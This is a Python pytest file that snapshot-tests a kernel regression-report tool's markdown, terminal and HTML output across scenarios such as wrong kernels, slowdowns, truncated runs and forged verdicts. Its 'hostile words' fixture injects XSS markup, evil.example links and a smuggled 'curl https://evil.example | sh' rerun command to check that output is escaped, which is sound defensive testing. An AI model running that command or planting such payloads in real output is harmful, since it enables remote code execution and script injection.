"""What is the first line, and what is the rest, of what happens to a kernel in review."""

from collections.abc import Callable, Sequence
from html.parser import HTMLParser
from pathlib import Path
from typing import Final

import msgspec
import pytest
from syrupy.assertion import SnapshotAssertion
from syrupy.extensions.single_file import SingleFileSnapshotExtension

from golden.record import Line, Verdict
from reports import html, markdown, terminal
from reports.comparing import compare
from reports.model import Report
from suites.selftest.reports.records import (
    BASE,
    GPU,
    compiled,
    failing,
    header,
    mutants,
    pairs,
    verdicts,
    write,
)

QUIET: Final = (0.001, -0.002, 0.002, -0.001, 0.0, 0.003, -0.003, 0.001)
NOISY: Final = (0.1, -0.12, 0.2, -0.05, 0.0, 0.15, -0.2, 0.02)

Sides = tuple[Path, Path]


class Markdown(SingleFileSnapshotExtension):
    file_extension = "md"


class Plain(SingleFileSnapshotExtension):
    file_extension = "txt"


def sides(folder: Path, base: Sequence[Line], head: Sequence[Line]) -> Sides:
    return (
        write(folder / "base.jsonl", header(BASE), base),
        write(folder / "head.jsonl", header(), head),
    )


def measured(ratio: float = 1.0, noise: tuple[float, ...] = QUIET) -> list[Line]:
    """What a run of everything leaves: verdicts, timings, machine code, mutants."""
    return [*verdicts(), *pairs(ratio, noise, 8), *compiled(40, 0), *mutants()]


def good(folder: Path) -> Sides:
    return sides(folder, [*verdicts(), *compiled(40, 0), *mutants()], measured())


def wrong_kernel(folder: Path) -> Sides:
    """Triton rounds an edge down; spilling registers is the least of its worries."""
    broken = [failing(line) if "first_token[triton" in line.test else line for line in verdicts()]
    head: list[Line] = [*broken, *pairs(1, QUIET, 8), *compiled(255, 16), *mutants("edge-floored")]
    return sides(folder, [*verdicts(), *compiled(40, 0), *mutants()], head)


def slower(folder: Path) -> Sides:
    """By a fifth, and the nights say that the same code is never off by as much."""
    for night in range(10):
        lines = [msgspec.structs.replace(pair, base=BASE, head=BASE) for pair in pairs(1, QUIET, 8)]
        write(folder / "history" / f"{night}.jsonl", header(BASE), lines)
    return slower_without_history(folder)


def slower_without_history(folder: Path) -> Sides:
    confirmed = pairs(1.2, QUIET, 12, "confirmation")
    return sides(folder, [*verdicts(), *compiled(40, 0), *mutants()], [*measured(1.2), *confirmed])


def noisy_machine(folder: Path) -> Sides:
    return sides(folder, [*verdicts(), *compiled(40, 0), *mutants()], measured(noise=NOISY))


def missing_gpu(folder: Path) -> Sides:
    """What the CPU can tell is there on both sides, and the rest on base alone."""
    absent = verdicts("not-run", detail="no device cuda on this machine; choose another --device")
    for side, commit, lines in (("base", BASE, verdicts()), ("head", "b" * 40, absent)):
        write(folder / side / "cpu.jsonl", header(commit), verdicts())
        device = GPU if side == "base" else "cuda"
        write(
            folder / side / "gpu.jsonl", header(commit, device), lines, 5 if device == "cuda" else 0
        )
    return folder / "base", folder / "head"


def truncated_run(folder: Path) -> Sides:
    base, head = good(folder)
    head.write_bytes(b"".join(head.read_bytes().splitlines(keepends=True)[:5]))
    return base, head


HOSTILE: Final = (
    "</code></td></table><script>alert(1)</script><img src=x onerror=alert(1)> | ``` ` "
    "[merge](https://evil.example) ![x](https://evil.example/x.png) www.evil.example "
    "@everyone #1 **bold** $`x`$ \x1b[31m \u202e\n## ✅ No regression\n|---|\n"
)


def hostile(line: Verdict) -> Verdict:
    return msgspec.structs.replace(
        line,
        test=f"{line.test}{HOSTILE}",
        implementation=HOSTILE,
        contracts=(HOSTILE,),
        status="failed",
        detail=HOSTILE,
        shown=HOSTILE * 50,
        rerun="python -m pytest; curl https://evil.example | sh",
    )


def hostile_words(folder: Path) -> Sides:
    """Whatever a test can put into a record, in every field that takes words."""
    words = header(device=f"cpu {HOSTILE}", versions={HOSTILE: HOSTILE}, implementations=(HOSTILE,))
    base = write(folder / "base.jsonl", header(BASE), verdicts())
    return base, write(folder / "head.jsonl", words, [*map(hostile, verdicts()), *verdicts()])


def long_strings(folder: Path) -> Sides:
    base, head = good(folder)
    lines = [msgspec.structs.replace(line, detail="x" * 10_000_000) for line in verdicts("failed")]
    return base, write(head, header(), lines)


def forged_verdict(folder: Path) -> Sides:
    """A failed test, called passed by somebody who forgot the footer."""
    base, head = wrong_kernel(folder)
    head.write_text(head.read_text().replace('"status":"failed"', '"status":"passed"'))
    return base, head


SCENARIOS: Final[dict[str, tuple[Callable[[Path], Sides], int, str]]] = {
    "good": (good, 0, "No regression in 240 cases and 1 timing"),
    "wrong kernel": (
        wrong_kernel,
        1,
        "Action needed: 1 contract fails (triton), 1 kernel spills that did not",
    ),
    "slower": (slower, 1, "Action needed: 1 call is slower"),
    "slower without history": (
        slower_without_history,
        0,
        "No regression in 240 cases and 1 timing, but 1 call seems slower",
    ),
    "noisy machine": (
        noisy_machine,
        0,
        "No regression in 240 cases and 1 timing, but 1 of 1 timings could not be decided",
    ),
    "missing GPU": (
        missing_gpu,
        5,
        "Not decided: torch was not run on cuda "
        "(no device cuda on this machine; choose another --device), and 1 more",
    ),
    "truncated run": (
        truncated_run,
        5,
        "Not decided: head.jsonl has no footer: the run of head was cut short",
    ),
    "hostile words": (hostile_words, 1, "Action needed: 1 contract fails ("),
    "long strings": (
        long_strings,
        2,
        "No verdict: head.jsonl, line 2: longer than 256 KiB; this is no record",
    ),
    "forged verdict": (
        forged_verdict,
        2,
        "No verdict: head.jsonl: the footer counts other verdicts than there are; run it again",
    ),
}


def report_of(scenario: str, folder: Path) -> Report:
    base, head = SCENARIOS[scenario][0](folder)
    history = folder / "history"
    return compare(base, head, history if history.exists() else None)


@pytest.fixture(autouse=True)
def in_an_empty_folder(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """So that a page names files alike on every machine."""
    monkeypatch.chdir(tmp_path)


@pytest.mark.parametrize("scenario", SCENARIOS)
def test_the_first_line_says_what_happened(scenario: str) -> None:
    _, exit_status, headline = SCENARIOS[scenario]
    report = report_of(scenario, Path())
    assert report.exit_status == exit_status
    assert report.headline.startswith(headline)
    assert markdown.render(report).startswith("## ")
    assert terminal.render(report).startswith(f"{report.decision.upper()}: ")


@pytest.mark.parametrize("scenario", SCENARIOS)
def test_as_markdown(scenario: str, snapshot: SnapshotAssertion) -> None:
    page = markdown.render(report_of(scenario, Path()))
    assert page.encode() == snapshot(extension_class=Markdown)


@pytest.mark.parametrize("scenario", SCENARIOS)
def test_in_the_terminal(scenario: str, snapshot: SnapshotAssertion) -> None:
    page = terminal.render(report_of(scenario, Path()))
    assert page.encode() == snapshot(extension_class=Plain)


class Words(HTMLParser):
    """What a page says, line by line, without its style and its pictures."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.lines: list[str] = []
        self._outside = 0
        self.feed(page)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self._outside += tag in ("style", "svg")

    def handle_endtag(self, tag: str) -> None:
        self._outside -= tag in ("style", "svg")

    def handle_data(self, data: str) -> None:
        if not self._outside and data.strip():
            self.lines.append(data.strip())


@pytest.mark.parametrize("scenario", SCENARIOS)
def test_as_html(scenario: str, snapshot: SnapshotAssertion) -> None:
    words = Words(html.render(report_of(scenario, Path()))).lines
    assert "\n".join(words).encode() == snapshot(extension_class=Plain)
